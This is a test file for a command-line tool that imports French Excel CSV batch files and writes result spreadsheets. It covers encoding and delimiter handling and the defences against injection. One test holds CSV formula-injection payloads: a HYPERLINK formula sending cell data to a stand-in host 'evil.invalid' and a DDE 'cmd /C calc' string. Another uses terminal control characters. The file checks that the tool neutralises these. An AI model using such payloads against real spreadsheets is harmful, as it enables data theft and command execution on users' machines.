/**
 * Batch files as spreadsheets write them: a French Excel's semicolons and Windows-1252, and a
 * results file such an Excel opens with its accents intact and with no cell it would run.
 */
import {readFile, writeFile} from 'node:fs/promises';
import {parse} from 'csv-parse/sync';
import iconv from 'iconv-lite';
import {describe, expect, it} from 'vitest';
import {useBatchRuns} from '../order/harness.js';

const POST = 'POST /customers/:customerCode/orders';

describe('btalk order --from a French Excel file', () => {
  const {sandbox, file, run} = useBatchRuns('btalk-excel-');

  it('reads a semicolon, Windows-1252 file, sends "Siège Paris" exactly, and writes results Excel opens (BOM, ;, CRLF)', async () => {
    const text = 'Pays;VPN;Libellé;Référence\r\nFR;My VPN 1;Siège Paris;PO-1\r\nRoyaume-Uni;My VPN 2;"Bureau; Lyon, 3e étage";PO-2\r\n';
    const bytes = iconv.encode(text, 'windows-1252');
    expect(bytes.includes(0xe8)).toBe(true); // "è" as one Windows-1252 byte: not UTF-8
    await writeFile(file('sites.csv'), bytes);

    const dry = await run(['order', '--from', 'sites.csv', '--dry-run', '--yes']);
    expect(dry.stderr).not.toContain('unknown column');
    expect(dry.code).toBe(0);
    expect(dry.stderr).toContain('sites.csv is not UTF-8: read it as Windows-1252');
    expect(dry.stdout).toContain('"customerSiteLabel": "Siège Paris"');
    expect(dry.stdout).toContain('"technicalSiteName": "SIEGE_PARIS"');
    expect(dry.stdout).toContain('"customerSiteLabel": "Bureau; Lyon, 3e étage"');
    expect(dry.stdout).toContain('"country": "GB"');
    expect(dry.stdout).not.toContain('\ufffd');
    expect(sandbox().counters.byRoute[POST] ?? 0).toBe(0);

    const real = await run(['order', '--from', 'sites.csv', '--yes']);
    expect(real.code).toBe(0);
    const sites = (await run(['--json', 'voicesites', '--filter', 'SIEGE_PARIS'])).stdout;
    expect(JSON.parse(sites)).toEqual([expect.objectContaining({technicalSiteName: 'SIEGE_PARIS', customerSiteLabel: 'Siège Paris'})]);

    const results = await readFile(file('sites.results.csv'));
    expect([...results.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const written = results.toString('utf8');
    expect(written.split('\r\n')[0]).toBe('\ufeffrow;technicalSiteName;customerSiteLabel;status;voiceSiteId;error;requestId');
    expect(written.replace(/\r\n/g, '')).not.toContain('\n');
    const records = parse(written, {bom: true, delimiter: ';', columns: true}) as Array<Record<string, string>>;
    expect(records.map((r) => [r['row'], r['customerSiteLabel'], r['status']])).toEqual([
      ['2', 'Siège Paris', 'ok'],
      ['3', 'Bureau; Lyon, 3e étage', 'ok'],
    ]);
  });

  it('keeps a comma file comma-separated and refuses a workbook with what to do', async () => {
    await writeFile(file('sites.xlsx'), Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]));
    const workbook = await run(['order', '--from', 'sites.xlsx', '--yes']);
    expect(workbook.code).toBe(2);
    expect(workbook.stderr).toContain('spreadsheet workbook (.xlsx, .ods)');
    expect(workbook.stderr).toContain('CSV UTF-8');
  });

  it('writes no formula cell from a hostile server: voiceSiteIds and request ids are text', async () => {
    const evilId = '=HYPERLINK("http://evil.invalid/?"&B2,"open")';
    const evilRequestId = "@SUM(1+1)*cmd|' /C calc'!A0";
    await writeFile(file('sites.csv'), 'vpn,country,label\nMy VPN 1,FR,Evil one\nMy VPN 1,FR,Evil two\n');
    sandbox().injectFault({route: POST, status: 201, json: {orderId: 'o1', status: 'done', voiceSiteId: evilId}, headers: {'X-OAPI-Request-Id': evilRequestId}});
    sandbox().injectFault({route: POST, status: 400, json: {code: 25, message: '-1+1', description: '+cmd'}, headers: {'X-OAPI-Request-Id': evilRequestId}});
    const r = await run(['order', '--from', 'sites.csv', '--yes', '--concurrency', '1']);
    expect(r.code).toBe(1);
    const written = await readFile(file('sites.results.csv'), 'utf8');
    const records = parse(written, {bom: true}) as string[][];
    expect(records).toHaveLength(3);
    const cells = records.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${evilId}`);
    expect(cells).toContain(`'${evilRequestId}`);
  });

  it('shows hostile cells as visible escapes: no raw C1 or bidi control reaches the terminal', async () => {
    await writeFile(file('sites.csv'), 'vpn,country,label,\u202ecolour\nMy VPN 1,FR,Evil\u009b2J\u202eoffice,\n');
    const header = await run(['order', '--from', 'sites.csv', '--dry-run', '--yes']);
    expect(header.code).toBe(2);
    expect(header.stderr).toContain('\\u202ecolour');
    await writeFile(file('sites.csv'), 'vpn,country,label\nMy VPN 1,\u009b2JFR\u202e,Evil\u009b2J\u202eoffice\n');
    for (const args of [['order', '--from', 'sites.csv', '--dry-run', '--yes'], ['--json', 'order', '--from', 'sites.csv', '--dry-run', '--yes']]) {
      const r = await run(args);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('row 2, label');
      expect(r.stderr).toContain('\\x9b2JFR\\u202e');
      expect(r.stdout + r.stderr).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069\u001b]/);
    }
  });
});
